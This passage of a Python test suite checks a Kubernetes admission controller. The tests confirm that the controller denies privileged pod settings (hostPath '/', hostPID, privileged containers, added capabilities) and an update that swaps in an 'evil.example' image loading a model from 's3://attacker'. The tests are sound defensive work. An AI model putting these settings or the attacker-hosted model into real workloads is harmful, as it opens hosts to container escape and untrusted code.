    (_pod_level("securityContext", {"sysctls": [{"name": "kernel.msgmax", "value": "65536"}]}),
     "spec.template.spec.securityContext.sysctls[0]"),
    (lambda obj: server(obj).__setitem__("ports", [{"containerPort": 8080, "hostPort": 8080}]),
     "spec.template.spec.containers[0].ports[0].hostPort"),
    (lambda obj: (pod_spec(obj)["volumes"].append({"name": "node", "hostPath": {"path": "/var/lib/kubelet"}})),
     "spec.template.spec.volumes[node]"),
    (lambda obj: obj["spec"]["template"]["metadata"]["annotations"].__setitem__(
        "container.apparmor.security.beta.kubernetes.io/server", "unconfined"),
     "container.apparmor.security.beta.kubernetes.io/server"),
]


@pytest.mark.parametrize(("mutate", "field"), POD_SECURITY)
def test_a_privileged_pod_is_denied(admission_world: AdmissionWorld, mutate: Any, field: str) -> None:
    obj = wrap("Deployment", pod_template(good(admission_world)), good(admission_world))
    mutate(obj)
    denied(admission_world, obj, Reason.POD_SECURITY, field, "baseline")


def test_privileged_kserve_components_are_denied(admission_world: AdmissionWorld) -> None:
    w = admission_world
    p = policy(w, "components.yaml", transformers="allow")
    m = isvc(good(w))
    m["spec"]["predictor"]["hostNetwork"] = True
    denied(w, m, Reason.POD_SECURITY, "spec.predictor.hostNetwork", policy=p)
    m = isvc(good(w))
    m["spec"]["predictor"]["model"]["securityContext"] = {"privileged": True}
    denied(w, m, Reason.POD_SECURITY, "spec.predictor.model.securityContext.privileged", policy=p)
    m = isvc(good(w), form="container")
    m["spec"]["predictor"]["containers"][0]["securityContext"] = {"capabilities": {"add": ["SYS_PTRACE"]}}
    denied(w, m, Reason.POD_SECURITY, "spec.predictor.containers[0].securityContext.capabilities.add", policy=p)
    m = isvc(good(w))
    m["spec"]["transformer"] = {"hostPID": True, "containers": [{"name": "t", "image": SERVER_IMAGE}]}
    denied(w, m, Reason.POD_SECURITY, "spec.transformer.hostPID", policy=p)
    m = isvc(good(w))
    m["spec"]["predictor"]["volumes"] = [{"name": "node", "hostPath": {"path": "/"}}]
    denied(w, m, Reason.POD_SECURITY, "spec.predictor.volumes[node]", policy=p)
    for kind in ("ServingRuntime", "ClusterServingRuntime"):
        rt = serving_runtime(kind, "kserve-tritonserver", SERVER_IMAGE)
        rt["spec"]["hostIPC"] = True
        rt["spec"]["containers"][0]["securityContext"] = {"privileged": True}
        d = denied(w, rt, Reason.POD_SECURITY, "spec.hostIPC", "spec.containers[0].securityContext.privileged")
        assert d.codes.count(Reason.POD_SECURITY) == 2


def test_a_restricted_pod_is_admitted(admission_world: AdmissionWorld) -> None:
    w = admission_world
    obj = wrap("Deployment", pod_template(good(w)), good(w))
    pod_spec(obj)["securityContext"] = {
        "runAsNonRoot": True, "runAsUser": 10001, "fsGroup": 10001, "seccompProfile": {"type": "RuntimeDefault"},
        "sysctls": [{"name": "net.ipv4.ip_local_port_range", "value": "1024 65535"}],
        "seLinuxOptions": {"level": "s0:c123,c456"}}
    for c in (the_loader(obj), server(obj)):
        c["securityContext"] = {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
                                "capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]},
                                "seccompProfile": {"type": "Localhost", "localhostProfile": "profiles/x.json"},
                                "appArmorProfile": {"type": "RuntimeDefault"}, "procMount": "Default"}
    server(obj)["ports"] = [{"containerPort": 8080, "hostPort": 0}]
    obj["spec"]["template"]["metadata"]["annotations"][
        "container.apparmor.security.beta.kubernetes.io/server"] = "runtime/default"
    admitted(w, obj)


# --- the shipped manifests pass the policy they ship with ----------------------------------------

def _example_policy(world: AdmissionWorld, loader_image: str, images: list[str]) -> Policy:
    return policy(world, "example.yaml", loader={"image": loader_image}, images=images)


def test_the_example_deployment_passes_the_whole_workload_policy(admission_world: AdmissionWorld) -> None:
    from tests.test_fetch_infra import _deployment

    dep = _deployment()
    ld = dep["spec"]["template"]["spec"]["initContainers"][0]
    srv = dep["spec"]["template"]["spec"]["containers"][0]
    p = _example_policy(admission_world, ld["image"], [srv["image"].split("@")[0]])
    findings, ref = check_workload(dep, p.rules_for("models"))
    assert findings == [] and ref is not None, findings
    assert ref.uri == ld["args"][0]


def test_a_kserve_pod_with_the_shipped_storage_container_passes(admission_world: AdmissionWorld) -> None:
    """The Pod KServe's mutator makes from an InferenceService and the mlseal ClusterStorageContainer."""
    from tests.test_fetch_infra import _csc

    csc = copy.deepcopy(_csc()["spec"]["container"])
    m = good(admission_world)
    obj = kserve_pod(admission_world, m, initializer_image=csc["image"])
    spec = obj["spec"]
    spec["initContainers"][0] = {**csc, "args": [m.uri, "/mnt/models"],
                                 "volumeMounts": [*csc["volumeMounts"], {"name": "kserve-provision-location",
                                                                         "mountPath": "/mnt/models"}]}
    spec["volumes"].append({"name": "mlseal-policy", "configMap": {"name": "mlseal-loader-policy"}})
    p = _example_policy(admission_world, csc["image"], ["registry.example/serving/*"])
    findings, ref = check_workload(obj, p.rules_for("prod"))
    assert findings == [] and ref is not None and ref.uri == m.uri, findings
    # and the InferenceService that names that volume for the loader
    svc = isvc(m)
    svc["spec"]["predictor"]["volumes"] = [{"name": "mlseal-policy", "configMap": {"name": "mlseal-loader-policy"}}]
    assert check_workload(svc, p.rules_for("prod"))[0] == []


# --- 8. an UPDATE riding on a deletion ----------------------------------------------------------------

def _decide(world: AdmissionWorld, obj: dict[str, Any], old: dict[str, Any] | None) -> dict[str, Any]:
    c = _controller(world)
    body = json.dumps(review(obj, operation="UPDATE", old=old)).encode()
    status, out = c.review(body)
    assert status == 200
    resp: dict[str, Any] = out["response"]
    return resp


def test_a_spec_change_in_an_update_of_an_object_being_deleted_is_judged(admission_world: AdmissionWorld) -> None:
    w = admission_world
    old = wrap("Deployment", pod_template(good(w)), good(w))
    old["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z"
    old["metadata"]["finalizers"] = ["foregroundDeletion"]
    evil = copy.deepcopy(old)
    server(evil)["image"] = "evil.example/server:latest"
    server(evil)["args"] = ["--model=s3://attacker/model.joblib"]
    evil["metadata"]["finalizers"] = []
    r = _decide(w, evil, old)
    assert r["allowed"] is False and "evil.example/server:latest" in r["status"]["message"], r
    # the model annotation changed: judged too (here another model, which fails its gate)
    low = w.models["lowacc"]
    swapped = copy.deepcopy(old)
    swapped["spec"]["template"]["metadata"]["annotations"]["mlseal.dev/model-sha256"] = low.sha256
    the_loader(swapped)["args"][0] = low.uri
    r = _decide(w, swapped, old)
    assert r["allowed"] is False, r
    top = copy.deepcopy(old)
    top["metadata"]["annotations"] = {"mlseal.dev/model-sha256": low.sha256}
    r = _decide(w, top, old)
    assert r["allowed"] is False, r
    # no oldObject to compare with: judged
    assert _decide(w, evil, None)["allowed"] is False


def test_finalizer_removal_of_an_object_being_deleted_is_allowed(admission_world: AdmissionWorld) -> None:
    """Removing finalizers must never hang a deletion, even of an object the policy now denies."""
    w = admission_world
    old = wrap("Deployment", {"containers": [{"name": "s", "image": "evil.example/server:latest"}]}, good(w))
    old["metadata"]["deletionTimestamp"] = "2026-01-01T00:00:00Z"
    old["metadata"]["finalizers"] = ["foregroundDeletion"]
    new = copy.deepcopy(old)
    new["metadata"]["finalizers"] = []
    new["metadata"]["labels"] = {"gone": "yes"}
    assert _decide(w, new, old)["allowed"] is True
    assert _decide(w, copy.deepcopy(old), old)["allowed"] is True



def test_every_reason_code_is_documented() -> None:
    """Metrics label decisions by these codes; docs/admission.md lists them for operators."""
    doc = (Path(__file__).resolve().parent.parent / "docs" / "admission.md").read_text()
    listed = doc[doc.index("Reason codes (metrics labels"):doc.index("A workload denial names")]
    assert [r.value for r in Reason if f"`{r.value}`" not in listed] == []
